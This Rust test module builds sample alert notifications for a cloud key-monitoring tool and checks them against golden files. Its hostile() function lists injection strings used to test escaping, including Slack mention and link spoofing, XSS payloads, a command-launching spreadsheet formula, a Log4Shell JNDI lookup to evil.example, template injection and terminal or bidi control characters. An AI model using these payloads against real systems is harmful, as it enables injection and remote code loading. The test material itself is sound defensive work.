//! Notifications for tests.

use keyvigil_model::alert::{Message, NextStep, Notification, NotifyAction, NotifyReason, label};
use keyvigil_model::finding::Effect;
use keyvigil_model::id::Fingerprint;
use keyvigil_model::severity::Severity;
use keyvigil_model::time::Timestamp;
use keyvigil_model::untrusted::Untrusted;

const KEY: &str = "arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab";
const EVENT: &str = "0e4d136e-0000-4000-8000-00000000000a";

/// The event time of all samples: 2025-12-25T00:00:12Z.
const EVENT_TIME: Timestamp = Timestamp::from_secs(1_766_620_812);

type Row = (&'static str, Untrusted);

fn lifecycle(reason: &str, rule: &str) -> Vec<(&'static str, String)> {
    [
        (label::STATUS, "open"),
        (label::SENT_BECAUSE, reason),
        (label::FINDING, "D-7f3a2b9c10"),
        (label::ALERT, "A-5f0c9d1e2b.1"),
        (label::RULE, rule),
        (label::LATENCY, "41 s"),
        (label::SOURCE, "aws/prod/cloudtrail"),
        (label::EVENT, EVENT),
    ]
    .map(|(name, value)| (name, value.to_owned()))
    .into()
}

fn step(text: &str, command: Option<&str>, effect: Effect) -> NextStep {
    NextStep {
        text: text.to_owned(),
        command: command.map(str::to_owned),
        effect,
    }
}

fn subject() -> Vec<Row> {
    vec![
        (label::ALIAS, "alias/prod-customer-db".into()),
        (label::KEY, KEY.into()),
        (label::PROVIDER, "aws".into()),
        (label::ACCOUNT, "111122223333".into()),
        (label::REGION, "eu-west-1".into()),
        (label::PROTECTS, "2 databases, 14 volumes, 3 buckets".into()),
        (label::OWNER, "team-payments".into()),
    ]
}

/// A key is scheduled for deletion: everything is known.
pub(crate) fn deletion() -> Notification {
    let id = "1234abcd-12ab-34cd-56ef-1234567890ab";
    let aws = |verb: &str| format!("aws kms {verb} --key-id {id} --region eu-west-1");
    Notification {
        fingerprint: Fingerprint::of(&[b"deletion"]),
        episode: 1,
        finding: "D-7f3a2b9c10".into(),
        receiver: "security".into(),
        reason: NotifyReason::New,
        action: NotifyAction::Trigger,
        severity: Severity::Critical,
        message: Message {
            headline: "A key is scheduled for deletion in 7 days".to_owned(),
            who: vec![
                (label::PRINCIPAL, "arn:aws:iam::111122223333:role/AdminSSO".into()),
                (label::SESSION, "alice@example.com".into()),
                (label::KIND, "workload".into()),
                (label::SECOND_FACTOR, "yes".into()),
            ],
            what: "ScheduleKeyDeletion with a window of 7 days; your policy asks for 30. It succeeded."
                .into(),
            subject: subject(),
            from: vec![
                (label::ADDRESS, "203.0.113.24".into()),
                (label::USER_AGENT, "aws-cli/2.15".into()),
                (label::SEEN_BEFORE, "no, this is the first time".into()),
            ],
            normal: "No: this principal administered no key in 90 days.".to_owned(),
            blast_radius: "Data under the key cannot be read any more. \
                           Irreversible from 2026-01-01T00:00:12Z, in 6 d 23 h."
                .to_owned(),
            next_steps: vec![
                step(
                    "Ask alice, and look at the key.",
                    Some(&aws("describe-key")),
                    Effect::ReadOnly,
                ),
                step(
                    "Undo it.",
                    Some(&aws("cancel-key-deletion")),
                    Effect::ChangesState,
                ),
                step(
                    "If it was not alice, end the sessions of the role.",
                    None,
                    Effect::ChangesState,
                ),
            ],
            links: vec![
                (
                    "Finding".to_owned(),
                    "https://keyvigil.example.com/f/D-7f3a2b9c10".to_owned(),
                ),
                (
                    "Key in the AWS console".to_owned(),
                    format!(
                        "https://eu-west-1.console.aws.amazon.com/kms/home?region=eu-west-1#/kms/keys/{id}"
                    ),
                ),
            ],
            controls: vec!["SOC2 CC6.1".to_owned(), "ATT&CK T1485".to_owned()],
            event_time: EVENT_TIME,
            alerted_at: Timestamp::from_secs(1_766_620_853),
            lifecycle: lifecycle("new", "key.destroy_scheduled"),
        },
    }
}

/// A state without a principal, of medium severity, seen again.
pub(crate) fn rotation() -> Notification {
    let mut one = deletion();
    one.fingerprint = Fingerprint::of(&[b"rotation"]);
    one.reason = NotifyReason::Repeat;
    one.severity = Severity::Medium;
    one.message.headline = "A key does not rotate".to_owned();
    one.message.who = Vec::new();
    one.message.what = "Rotation is off; the policy asks for once a year.".into();
    one.message.from = Vec::new();
    one.message.normal = "A state, not an act: it stays until it is repaired.".to_owned();
    one.message.blast_radius = String::new();
    one.message.next_steps.truncate(1);
    one.message.links.clear();
    one.message.lifecycle = lifecycle("repeat", "aws.kms.rotation_enabled");
    one
}

/// The deletion was undone.
pub(crate) fn reverted() -> Notification {
    let mut one = deletion();
    one.reason = NotifyReason::Reverted;
    one.action = NotifyAction::Resolve;
    one.message
        .who
        .push((label::UNDONE_BY, "arn:aws:iam::111122223333:user/bob".into()));
    one.message.next_steps = Vec::new();
    one.message.blast_radius = String::new();
    one.message.lifecycle = lifecycle("reverted", "key.destroy_scheduled");
    one.message.lifecycle[0].1 = "reverted".to_owned();
    one.message.lifecycle.push((
        label::CLOSED_BECAUSE,
        "it was undone, 2025-12-25T00:10:00Z".to_owned(),
    ));
    one
}

/// Every text of the message is `text`, and there is much of it.
pub(crate) fn filled_with(text: &str, rows: usize) -> Notification {
    let mut one = deletion();
    let all = |names: &[&'static str]| -> Vec<Row> {
        names
            .iter()
            .cycle()
            .take(rows)
            .map(|name| (*name, text.into()))
            .collect()
    };
    one.message = Message {
        headline: text.to_owned(),
        who: all(&[label::PRINCIPAL, label::SESSION, label::ON_BEHALF_OF]),
        what: text.into(),
        subject: all(&[
            label::KEY,
            label::ALIAS,
            label::ACCOUNT,
            label::RESOURCE,
            label::OWNER,
        ]),
        from: all(&[label::ADDRESS, label::USER_AGENT]),
        normal: text.to_owned(),
        blast_radius: text.to_owned(),
        next_steps: vec![step(text, Some(text), Effect::ReadOnly); rows],
        links: vec![
            (text.to_owned(), text.to_owned()),
            (text.to_owned(), "https://console.example/x".to_owned()),
        ],
        controls: vec![text.to_owned(); rows],
        lifecycle: one
            .message
            .lifecycle
            .into_iter()
            .map(|(name, value)| match name {
                label::ALERT | label::RULE => (name, value),
                _ => (name, text.to_owned()),
            })
            .collect(),
        ..one.message
    };
    one
}

/// What an attacker may write into a name: at least 200 texts, each with `MARK` at both ends.
pub(crate) fn hostile() -> Vec<String> {
    const SEEDS: [&str; 48] = [
        "<!channel>",
        "<!here>",
        "<!everyone>",
        "<@U0123ABCD>",
        "<#C0123ABCD>",
        "<!subteam^S0123>",
        "<!date^0^{date}|x>",
        "<https://evil.example|click here>",
        "<mailto:a@evil.example|mail>",
        "https://evil.example/login",
        "[click](https://evil.example)",
        "`code`",
        "```block```",
        "*bold*",
        "_italic_",
        "~strike~",
        "> quote",
        ">>> quote",
        "# heading",
        "- item",
        ":rotating_light:",
        "&lt;!channel&gt;",
        "&amp;lt;!channel&amp;gt;",
        "&#60;!channel&#62;",
        "line\nbreak",
        "line\r\nbreak",
        "tab\there",
        "nul\0byte",
        "\u{1b}[31mred\u{1b}[0m",
        "\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}",
        "\u{9b}31m",
        "\u{202e}gnp.exe",
        "\u{2066}isolate\u{2069}",
        "\u{200f}\u{200e}",
        "zero\u{200b}width\u{200d}joiner\u{feff}",
        "soft\u{ad}hyphen",
        "\u{2028}\u{2029}",
        "\u{e0041}\u{e0042}",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><b>",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "@SUM(1)",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "\",\"type\":\"mrkdwn\",\"x\":\"",
        "\\u003c!channel\\u003e",
    ];
    const WRAPS: [(&str, &str); 5] = [("", ""), ("a ", " b"), ("<", ">"), ("\u{202e}", "\n"), ("`", "`")];
    let mut texts = Vec::new();
    for seed in SEEDS {
        for (before, after) in WRAPS {
            texts.push(format!("{MARK}{before}{seed}{after}{MARK}"));
        }
    }
    texts
}

/// Marks attacker-chosen text; nothing of keyvigil's contains it.
pub(crate) const MARK: &str = "kvq7";

/// Characters that must not leave keyvigil raw: they act on whatever shows the text.
pub(crate) fn acts_on_its_surroundings(character: char) -> bool {
    character.is_control()
        || matches!(character,
            '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2069}' |
            '\u{feff}' | '\u{e0000}'..='\u{e007f}')
}

/// Compares with `fixtures/NAME`; with `KEYVIGIL_BLESS=1` it writes the file instead.
pub(crate) fn golden(name: &str, found: &str) {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("fixtures")
        .join(name);
    if std::env::var_os("KEYVIGIL_BLESS").is_some() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, found).unwrap();
        return;
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_default();
    assert_eq!(
        found, expected,
        "{name} differs; if that is right, run the tests with KEYVIGIL_BLESS=1"
    );
}
